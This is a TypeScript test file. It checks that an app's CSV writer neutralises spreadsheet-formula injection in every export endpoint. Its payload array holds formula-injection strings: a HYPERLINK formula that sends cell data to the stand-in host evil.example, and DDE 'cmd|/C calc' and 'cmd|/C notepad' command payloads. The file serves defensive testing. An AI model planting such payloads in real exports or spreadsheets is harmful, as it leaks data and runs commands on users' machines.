/**
 * CSV injection: no exported CSV cell may start a spreadsheet formula. The one CSV writer prefixes
 * `'` to every cell that begins with `=`, `+`, `-`, `@`, tab or carriage return (OWASP) and keeps
 * the rest of the text: a property over generated strings, then every CSV export of the app with
 * the security test's four payloads (and tab/CR ones) in names, positions, institutions, profiles
 * and users.
 */
import { parse } from "csv-parse/sync";
import { sql } from "drizzle-orm";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { celdaCsv } from "../../src/exportar/formatos.js";
import { crearTestApp, type TestApp, type UsuarioDemo } from "../support/app.js";

vi.setConfig({ testTimeout: 120_000, hookTimeout: 120_000 });

const PELIGROSOS = ["=", "+", "-", "@", "\t", "\r"];
const empiezaFormula = (s: string) => PELIGROSOS.some((p) => s.startsWith(p));

/** The security test's payloads, and one for tab and carriage return. */
const CARGAS = [
  '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "-2+3+cmd|' /C notepad'!'A1'",
  "+1+1",
  "\t=1+2",
  "\r=3+4",
];

/** A one-cell CSV record read back by csv-parse. */
const leerCelda = (celda: string) => (parse(`x,${celda}\r\n`, { relax_column_count: false }) as string[][])[0][1];

describe("the CSV cell", () => {
  it("property: a formula's start gets a leading ', any other text comes back unchanged", () => {
    const arbTexto = fc.oneof(
      fc.string({ unit: "grapheme", maxLength: 40 }),
      fc.tuple(fc.constantFrom(...PELIGROSOS), fc.string({ maxLength: 40 })).map(([p, s]) => p + s),
      fc.constantFrom(...CARGAS),
    );
    fc.assert(
      fc.property(arbTexto, (s) => {
        const leida = leerCelda(celdaCsv(s));
        expect(empiezaFormula(leida)).toBe(false);
        expect(leida).toBe(empiezaFormula(s) ? `'${s}` : s);
      }),
      { numRuns: 2000 },
    );
  });

  it("the issue's payloads and numbers", () => {
    expect(leerCelda(celdaCsv(CARGAS[0]))).toBe(`'${CARGAS[0]}`);
    expect(celdaCsv("+1+1")).toBe("'+1+1");
    expect(celdaCsv("Ministerio de Hacienda")).toBe("Ministerio de Hacienda");
    expect(celdaCsv(12)).toBe("12");
    expect(celdaCsv(null)).toBe("");
  });
});

let t: TestApp;
beforeAll(async () => {
  t = await crearTestApp();
  const lista = sql.raw(`array[${CARGAS.map((c) => `'${c.replace(/'/g, "''")}'`).join(", ")}]`);
  const n = CARGAS.length;
  // The payloads where every export shows them: incumbents (every inbox), officials and positions
  // (the registry), an institution, a profile and a user (the configuration lists).
  await t.db.execute(sql`update incumbentes set
    nombres = (${lista})[1 + id_incumbente % ${n}::int], apellidos = (${lista})[1 + (id_incumbente + 1) % ${n}::int]`);
  await t.db.execute(sql`update funcionarios set
    nombres = (${lista})[1 + id_funcionario % ${n}::int], apellidos = (${lista})[1 + (id_funcionario + 2) % ${n}::int]`);
  await t.db.execute(
    sql`update cargos set nombre = '+1+1', descripcion = (${lista})[1] where id_cargo = (select min(id_cargo) from cargos)`,
  );
  await t.db.execute(sql`update cargos set nombre = (${lista})[1 + id_cargo % ${n}::int] || ' ' || id_cargo
    where id_cargo <> (select min(id_cargo) from cargos)`);
  await t.db.execute(sql`update instituciones set direccion = (${lista})[1 + id_institucion % ${n}::int],
    telefono = (${lista})[1 + (id_institucion + 3) % ${n}::int]`);
  await t.db.execute(
    sql`update instituciones set nombre = (${lista})[2] where id_institucion = (select max(id_institucion) from instituciones)`,
  );
  await t.db.execute(sql`update perfiles set descripcion = (${lista})[1 + id_perfil % ${n}::int]`);
  await t.db.execute(sql`update usuarios set nombre = (${lista})[1 + id_usuario % ${n}::int]`);
});
afterAll(() => t?.close());

const EXPORTACIONES: [UsuarioDemo, string][] = [
  ["originador", "Originador"],
  ["analista", "Analista"],
  ["juridico", "Juridico"],
  ["juridico", "Historico"],
  ["administrador", "Administrador"],
  ["administrador", "Seguimiento"],
  ["consultor", "Consultor"],
  ["consultor", "Registro"],
  ["configuracion", "Usuarios"],
  ["configuracion", "Perfiles"],
  ["configuracion", "Instituciones"],
  ["configuracion", "Cargos"],
];

describe("every CSV export", () => {
  it("no cell starts a formula; each payload is there, prefixed and otherwise unchanged", async () => {
    const vistas = new Set<string>();
    for (const [usuario, lista] of EXPORTACIONES) {
      const res = await t.as(usuario, { method: "GET", url: `/api/Exportar/${lista}?formato=csv` });
      expect(res.statusCode, lista).toBe(200);
      const filas: string[][] = parse(res.rawPayload.toString("utf8").slice(1), { relax_column_count: false });
      expect(filas.length, lista).toBeGreaterThan(1);
      const celdas = filas.slice(1).flat();
      expect(
        celdas.filter((c) => empiezaFormula(c)),
        lista,
      ).toEqual([]);
      const propias = CARGAS.filter((c) => celdas.some((x) => x.startsWith(`'${c}`)));
      expect(propias.length, `${lista}: payloads found`).toBeGreaterThan(0);
      for (const c of propias) vistas.add(c);
    }
    expect([...vistas].sort()).toEqual([...CARGAS].sort());
  });
});
